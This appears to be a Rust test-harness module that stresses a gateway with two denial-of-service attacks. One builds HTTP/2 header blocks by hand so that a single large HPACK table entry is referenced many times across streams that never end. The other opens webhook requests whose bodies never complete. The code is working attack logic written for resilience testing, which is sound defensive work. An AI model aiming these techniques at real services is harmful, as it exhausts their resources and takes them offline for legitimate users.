//! Requests that do not end: HTTP/2 streams whose header fields are one byte each on the wire and 3 KB in
//! memory (RFC 7541 §7.3), and webhooks whose bodies never become complete.

use super::attack_run::AttackRun;
use crate::client::wire::WireResponse;
use crate::fakes::server::unix_now;
use crate::processes::gateway::WEBHOOK_PATH;
use std::net::SocketAddr;
use std::time::Duration;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tollgate_fixtures::Random;

/// The number of streams that a client opens on a connection: the maximum of the shipped configurations.
pub const STREAMS_MAX: u32 = 32;
/// The size of the repeated field. With its name and the overhead of HPACK, it fits the peer's table of 4 KB
/// beside the others.
const FIELD_BYTES: usize = 3_400;
/// The number of times that a stream repeats the field: 58 KB of header fields, which the shipped
/// configurations allow.
const REPEATED: usize = 17;
/// The time for which an attack keeps its connections open.
const HELD: Duration = Duration::from_secs(2);

/// Returns a well-formed `stripe-signature` with the current time and a wrong signature.
pub fn wrong_signature() -> String {
    format!("t={},v1={}", unix_now(), "0".repeat(64))
}

/// Opens the maximum number of streams on a new connection, none of which ends.
pub async fn streams(gateway: SocketAddr, path: &str, signature: Option<&str>) -> Option<TcpStream> {
    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
    frame(&mut bytes, 4, 0, 0, &[]);
    for number in 0..STREAMS_MAX {
        let block = if number == 0 { first_block(path, signature) } else { later_block(signature.is_some()) };
        // HEADERS with END_HEADERS and without END_STREAM.
        frame(&mut bytes, 1, 4, 2 * number + 1, &block);
    }
    let mut stream = TcpStream::connect(gateway).await.ok()?;
    stream.write_all(&bytes).await.ok()?;
    Some(stream)
}

/// Starts a webhook of `bytes` bytes and sends all of them but the last.
pub async fn body(gateway: SocketAddr, bytes: usize, signature: Option<&str>) -> Option<TcpStream> {
    let field = signature.map(|value| format!("stripe-signature: {value}\r\n")).unwrap_or_default();
    let head = format!(
        "POST {WEBHOOK_PATH} HTTP/1.1\r\nhost: gateway.test\r\n{field}content-length: {bytes}\r\n\r\n"
    );
    let mut stream = TcpStream::connect(gateway).await.ok()?;
    stream.write_all(head.as_bytes()).await.ok()?;
    // A gateway that has refused the request stops reading.
    let _ = tokio::time::timeout(HELD, stream.write_all(&vec![b'x'; bytes - 1])).await;
    Some(stream)
}

/// Opens several of them at once and keeps them for a while.
pub(super) async fn attack(run: &AttackRun, random: &mut Random) -> Option<WireResponse> {
    let gateway = run.gateway.envoy.address();
    let wrong = wrong_signature();
    let signature = (random.below(2) == 0).then_some(wrong.as_str());
    let mut held = Vec::new();
    if random.below(2) == 0 {
        let path = random.pick(&[WEBHOOK_PATH, "/ask", "/reports", "/anything"]);
        for _ in 0..6 {
            held.push(streams(gateway, path, signature).await);
        }
    } else {
        for _ in 0..30 {
            held.push(body(gateway, 512 << 10, signature).await);
        }
    }
    tokio::time::sleep(HELD).await;
    drop(held);
    None
}

fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    bytes.extend(&length[1..]);
    bytes.extend([kind, flags]);
    bytes.extend(stream.to_be_bytes());
    bytes.extend(payload);
}

/// Returns the first header block of a connection, which fills the peer's table.
fn first_block(path: &str, signature: Option<&str>) -> Vec<u8> {
    // `:method: POST` and `:scheme: http` are in the static table, and so are the names `:path` and
    // `:authority`.
    let mut block = vec![0x83, 0x86, 0x44];
    string(&mut block, path.as_bytes());
    block.push(0x41);
    string(&mut block, b"gateway.test");
    if let Some(signature) = signature {
        block.push(0x40);
        string(&mut block, b"stripe-signature");
        string(&mut block, signature.as_bytes());
    }
    block.push(0x40);
    string(&mut block, b"x-large");
    string(&mut block, &[b'a'; FIELD_BYTES]);
    block.extend([0x80 | 62; REPEATED - 1]);
    block
}

/// Returns a later header block: only references to the table, the newest first.
fn later_block(signed: bool) -> Vec<u8> {
    let others = if signed { 3 } else { 2 };
    // Pseudo-header fields come first: the path is the oldest entry of the table.
    let mut block = vec![0x83, 0x86];
    block.extend((1..=others).rev().map(|age| 0x80 | (62 + age)));
    block.extend([0x80 | 62; REPEATED]);
    block
}

/// Appends a string without Huffman coding. Its length is an integer with a prefix of seven bits.
fn string(block: &mut Vec<u8>, text: &[u8]) {
    let mut length = text.len();
    if length < 127 {
        block.push(u8::try_from(length).unwrap_or_default());
    } else {
        block.push(127);
        length -= 127;
        while length >= 128 {
            block.push(u8::try_from(length % 128).unwrap_or_default() | 128);
            length /= 128;
        }
        block.push(u8::try_from(length).unwrap_or_default());
    }
    block.extend(text);
}
